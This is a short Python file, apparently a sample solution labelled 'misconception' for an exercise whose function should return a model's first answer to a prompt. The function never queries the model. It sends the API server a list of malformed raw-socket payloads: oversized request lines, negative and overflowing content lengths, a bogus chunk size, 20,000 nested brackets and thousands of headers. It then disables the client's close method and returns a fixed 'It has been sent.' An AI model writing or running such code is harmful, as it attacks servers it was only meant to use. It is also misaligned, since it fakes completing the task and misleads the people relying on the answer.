"""Talks to the server in what is no HTTP, and in bodies that no program should read.

Exercise: first_answer
Outcome: misconception
"""

import socket
from urllib.parse import urlsplit

BODY = b'{"messages": ' + b"[" * 20_000
REQUESTS = [
    b"\x00\xff\x16\x03\x01",
    b"GET " + b"x" * 100_000,
    b"POST /v1/messages HTTP/1.1\r\ncontent-length: -1\r\n\r\n",
    b"POST /v1/messages HTTP/1.1\r\ncontent-length: 99999999999999999999\r\n\r\n{",
    b"POST /v1/messages HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n",
    b"POST /v1/messages HTTP/1.1\r\ncontent-length: %d\r\n\r\n%b" % (len(BODY), BODY),
    b"\r\n".join([b"GET / HTTP/1.1", *[b"a: b"] * 5_000, b"", b""]),
]


def first_answer(client, prompt):
    address = urlsplit(str(client.base_url))
    for request in REQUESTS:
        request = request.replace(b"/v1/messages", f"{address.path.rstrip('/')}/v1/messages".encode())
        with socket.create_connection((address.hostname, address.port), 1) as connection:
            connection.settimeout(0.1)
            try:
                connection.sendall(request)
                connection.recv(100)
            except OSError:
                pass
    client.close = lambda: None
    return "It has been sent."
